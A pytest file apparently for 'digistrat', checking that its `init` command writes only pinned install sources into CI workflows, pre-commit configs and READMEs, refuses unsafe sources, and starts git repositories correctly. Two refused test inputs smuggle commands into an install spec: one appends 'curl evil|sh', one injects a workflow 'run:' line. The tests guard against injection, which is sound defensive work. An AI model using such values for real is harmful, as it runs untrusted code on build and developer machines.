"""Everything `init` writes installs one exact digistrat, from the source named at init time."""

from __future__ import annotations

import re
import shutil
import subprocess
from datetime import date
from pathlib import Path

import pytest

from digistrat import __version__
from digistrat.install import InstallSourceError, parse
from digistrat.scaffold import plan, scaffold, start_git

TODAY = date(2026, 11, 26)
INSTALL_FILES = (".github/workflows/digistrat.yml", ".pre-commit-config.yaml", "README.md")


def _installs(text: str) -> list[str]:
    """What each `pip install` / `pipx install` line in ``text`` installs."""
    return re.findall(r"pipx? install (\S+)", text)


def test_the_default_pins_this_version_from_pypi() -> None:
    files = plan("T", TODAY)
    pinned = f'"digistrat=={__version__}"'
    workflow = files[".github/workflows/digistrat.yml"]
    assert _installs(workflow) == [pinned, pinned]
    assert "from the Python Package Index (PyPI), pinned" in workflow
    assert _installs(files["README.md"]) == [pinned]
    hook = files[".pre-commit-config.yaml"]
    assert f'additional_dependencies: ["digistrat=={__version__}"]' in hook
    assert "language: python" in hook


@pytest.mark.parametrize(
    "spec",
    [
        None,
        "digistrat==0.2.0",
        "git+https://git.example.nhs.uk/digital/digistrat@v0.2.0",
        "https://files.example.org/digistrat-0.2.0-py3-none-any.whl",
        "vendor/digistrat-0.2.0-py3-none-any.whl",
    ],
)
def test_nothing_init_writes_installs_an_unpinned_name(spec: str | None) -> None:
    import yaml

    files = plan("T", TODAY, install=parse(spec))
    for rel in INSTALL_FILES:
        for installed in _installs(files[rel]):
            assert installed.strip('"') != "digistrat", rel
            assert re.search(r"==\d|@v\d|-\d[\d.]*-py3", installed), (rel, installed)
    for rel in (".github/workflows/digistrat.yml", ".pre-commit-config.yaml"):
        yaml.safe_load(files[rel])  # still valid YAML


def test_a_git_source_makes_the_hook_use_that_repository_and_rev() -> None:
    source = parse("git+https://git.example.nhs.uk/digital/digistrat@v0.2.0")
    hook = plan("T", TODAY, install=source)[".pre-commit-config.yaml"]
    assert "  - repo: https://git.example.nhs.uk/digital/digistrat\n    rev: v0.2.0\n" in hook
    assert "- id: digistrat-check" in hook
    assert "repo: local" not in hook
    hooks = (Path(__file__).parents[1] / ".pre-commit-hooks.yaml").read_text()
    assert "- id: digistrat-check" in hooks  # the id the hook names exists in this repository


def test_a_wheel_in_the_repository_is_installed_by_path_and_the_hook_runs_it() -> None:
    files = plan("T", TODAY, install=parse("vendor/digistrat-0.2.0-py3-none-any.whl"))
    assert _installs(files[".github/workflows/digistrat.yml"])[0] == (
        '"vendor/digistrat-0.2.0-py3-none-any.whl"'
    )
    assert "language: system" in files[".pre-commit-config.yaml"]


@pytest.mark.parametrize(
    ("spec", "why"),
    [
        ("digistrat", "does not pin"),
        ("digistrat>=0.1", "does not pin"),
        ("digistrat==latest", "not a version number"),
        ("git+https://github.com/acme/digistrat", "names no tag or commit"),
        ("git+https://github.com/acme/digistrat@", "names no tag or commit"),
        ("git+http://github.com/acme/digistrat@v1", "https://"),
        ("http://files.example.org/digistrat-0.2.0-py3-none-any.whl", "https://"),
        ("vendor/other-0.2.0-py3-none-any.whl", "not a digistrat wheel"),
        ('digistrat==1"; curl evil|sh; "', "spaces, quotes"),
        ("digistrat==1\nrun: evil", "spaces, quotes"),
        ("requests==2.0", "does not pin"),
    ],
)
def test_an_unpinned_or_unsafe_source_is_refused(spec: str, why: str) -> None:
    with pytest.raises(InstallSourceError, match=re.escape(why)):
        parse(spec)


def test_init_refuses_a_bad_source_and_writes_nothing(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from digistrat.cli import app

    result = CliRunner().invoke(app, ["init", str(tmp_path / "x"), "--install-from", "digistrat"])
    assert result.exit_code == 2
    assert "--install-from" in result.output and "does not pin" in result.output
    assert not (tmp_path / "x").exists()


needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")


@needs_git
def test_init_starts_a_git_repository_in_a_new_folder(tmp_path: Path) -> None:
    scaffold(tmp_path / "x", today=TODAY)
    assert start_git(tmp_path / "x") == "started"
    assert (tmp_path / "x" / ".git").is_dir()
    assert start_git(tmp_path / "x") == "inside"


@needs_git
def test_init_inside_an_existing_git_repository_starts_no_other(tmp_path: Path) -> None:
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    (tmp_path / "strategy-repo").mkdir()
    assert start_git(tmp_path / "strategy-repo") == "inside"
    assert not (tmp_path / "strategy-repo" / ".git").exists()


def test_without_git_installed_init_is_a_note_not_a_failure(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(shutil, "which", lambda name: None)
    assert start_git(tmp_path) == "no-git"
    assert not (tmp_path / ".git").exists()
